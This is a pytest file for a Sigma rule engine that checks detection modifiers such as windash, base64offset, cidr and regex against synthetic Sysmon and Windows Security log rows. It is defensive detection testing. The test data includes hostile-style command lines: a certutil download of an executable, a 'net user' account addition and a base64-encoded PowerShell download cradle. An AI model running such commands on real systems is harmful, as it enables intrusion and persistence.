"""Value modifiers of the Sigma specification, end to end (pySigma parse → compile → match)."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from tests.detect.sigma.helpers import frame, matched_rows, proc_rule, sysmon

from mirrorguard.detect.sigma.errors import SigmaRuleError
from mirrorguard.detect.sigma.loader import load_rules
from mirrorguard.detect.sigma.values import check_regex

CMDS = [
    "powershell.exe -EncodedCommand SQBFAFgA",       # 0
    "C:\\Windows\\System32\\CMD.EXE /c whoami",     # 1
    "cmd.exe",                                       # 2
    "net user admin P@ss /add",                      # 3
    "certutil -urlcache -f http://x/a.exe a.exe",    # 4
    "certutil /urlcache /f http://x/a.exe a.exe",    # 5
    None,                                            # 6
    "",                                              # 7
]


@pytest.fixture(scope="module")
def df():  # type: ignore[no-untyped-def]
    return frame([sysmon(CommandLine=c, Image=f"C:\\x\\{i}.exe") for i, c in enumerate(CMDS)])


@pytest.mark.parametrize(("detection", "expected"), [
    ("  s: {CommandLine: 'CMD.exe'}\n  condition: s", [2]),
    ("  s: {CommandLine|contains: 'WHOAMI'}\n  condition: s", [1]),
    ("  s: {CommandLine|startswith: 'net '}\n  condition: s", [3]),
    ("  s: {CommandLine|endswith: ' /ADD'}\n  condition: s", [3]),
    ("  s: {CommandLine|contains|all: ['net', '/add']}\n  condition: s", [3]),
    ("  s: {CommandLine|contains: ['whoami', 'certutil']}\n  condition: s", [1, 4, 5]),
    ("  s: {CommandLine: 'c*d.exe'}\n  condition: s", [2]),
    ("  s: {CommandLine: '*system32\\cmd.exe /?*'}\n  condition: s", [1]),
    ("  s: {CommandLine|contains|windash: ' -urlcache '}\n  condition: s", [4, 5]),
    ("  s: {CommandLine|re: '^net\\s+user'}\n  condition: s", [3]),
    ("  s: {CommandLine|re: 'CMD\\.EXE'}\n  condition: s", [1]),
    ("  s: {CommandLine|re|i: 'cmd\\.exe'}\n  condition: s", [1, 2]),
    ("  s: {CommandLine|cased: 'cmd.exe'}\n  condition: s", [2]),
    ("  s: {CommandLine: null}\n  condition: s", [6, 7]),
    ("  s: {CommandLine|exists: false}\n  condition: s", [6, 7]),
    ("  s: {CommandLine: ''}\n  condition: s", [7]),
    ("  s: {CommandLine: '*'}\n  condition: s", [0, 1, 2, 3, 4, 5]),
])
def test_string_modifiers(df, detection: str, expected: list[int]) -> None:  # type: ignore[no-untyped-def]
    rule = proc_rule(detection)
    assert matched_rows(rule, df) == expected


def test_base64_and_base64offset_and_utf16() -> None:
    payload = "IEX (New-Object Net.WebClient)"
    wide = base64.b64encode(payload.encode("utf-16-le")).decode()
    rows = [sysmon(CommandLine=f"powershell -enc {wide}"),
            sysmon(CommandLine="ZWNobyBoZWxsbw=="),  # "echo hello"
            sysmon(CommandLine="x" + base64.b64encode(b"..echo hello").decode())]
    df = frame(rows)
    assert matched_rows(proc_rule(
        "  s: {CommandLine|wide|base64offset|contains: 'New-Object'}\n  condition: s"), df) == [0]
    assert matched_rows(proc_rule(
        "  s: {CommandLine|base64: 'echo hello'}\n  condition: s"), df) == [1]
    assert matched_rows(proc_rule(
        "  s: {CommandLine|base64offset|contains: 'echo hello'}\n  condition: s"), df) == [1, 2]


def test_numbers_comparisons_cidr_fieldref() -> None:
    rows = [{"winlog.channel": "Security", "winlog.event_id": 4625,
             "winlog.event_data.LogonType": "3", "winlog.event_data.IpAddress": ip,
             "winlog.event_data.TargetUserName": u, "winlog.event_data.SubjectUserName": s}
            for ip, u, s in [("10.1.2.3", "bob", "BOB"), ("8.8.8.8", "amy", "x"),
                             ("fe80::1", "zed", "-"), ("-", "al", "al")]]
    df = frame(rows)

    def sec(det: str) -> list[int]:
        from tests.detect.sigma.helpers import compile_yaml
        rule = compile_yaml("title: t\nlogsource: {product: windows, service: security}\n"
                            f"detection:\n{det}\n")
        return matched_rows(rule, df)

    assert sec("  s: {EventID: 4625, LogonType: 3}\n  condition: s") == [0, 1, 2, 3]
    assert sec("  s: {IpAddress|cidr: ['10.0.0.0/8', 'fe80::/10']}\n  condition: s") == [0, 2]
    assert sec("  s: {LogonType|gte: 3, EventID|lt: 4626}\n  condition: s") == [0, 1, 2, 3]
    assert sec("  s: {LogonType|gt: 3}\n  condition: s") == []
    assert sec("  s: {TargetUserName|fieldref: SubjectUserName}\n  condition: s") == [0, 3]
    assert sec("  s: {EventID|neq: 4625}\n  condition: s") == []


@pytest.mark.parametrize(("detection", "kind"), [
    ("  s: {CommandLine|re: '(?<=a)b'}\n  condition: s", "pysigma: regular expression"),
    ("  s: {CommandLine|re: '(a)\\1'}\n  condition: s", "pysigma: regular expression"),
    ("  s: {CommandLine|re: '" + "a" * 5000 + "'}\n  condition: s", "regex too long"),
    ("  s: {CommandLine|expand: '%not_configured%'}\n  condition: s", "unresolved placeholder"),
    ("  s: {CommandLine|nosuchmod: 'x'}\n  condition: s", "pysigma: modifier"),
    ("  s: {CommandLine: 'x'}\n  condition: s and nothere", "invalid condition"),
])
def test_values_that_cannot_compile_say_why(tmp_path: Path, detection: str, kind: str) -> None:
    text = ("title: bad\nid: 0bad0bad-0000-4000-8000-000000000000\n"
            "logsource: {product: windows, category: process_creation}\n"
            f"detection:\n{detection}\n")
    (tmp_path / "bad.yml").write_text(text)
    (tmp_path / "good.yml").write_text(
        "title: good\nlogsource: {product: windows, category: process_creation}\n"
        "detection:\n  s: {CommandLine: x}\n  condition: s\n")
    rs = load_rules([tmp_path])
    assert [r.title for r in rs.rules] == ["good"]
    (fail,) = rs.failures
    assert fail.kind == kind and fail.file.endswith("bad.yml")
    assert fail.line == (6 if kind == "invalid condition" else 5)
    assert fail.rule_id == "0bad0bad-0000-4000-8000-000000000000"


def test_engine_rejects_what_rust_regex_cannot_run() -> None:
    with pytest.raises(SigmaRuleError) as err:
        check_regex("(?<=a)b")
    assert err.value.kind == "unsupported regex"


def test_catastrophic_regex_runs_in_linear_time() -> None:
    # (a+)+$ backtracks exponentially in Python's re on "aaaa…b"; the Rust engine does not.
    df = frame([sysmon(CommandLine="a" * 5000 + "b")] * 50)
    rule = proc_rule("  s: {CommandLine|re: '(a+)+$'}\n  condition: s")
    assert matched_rows(rule, df) == []
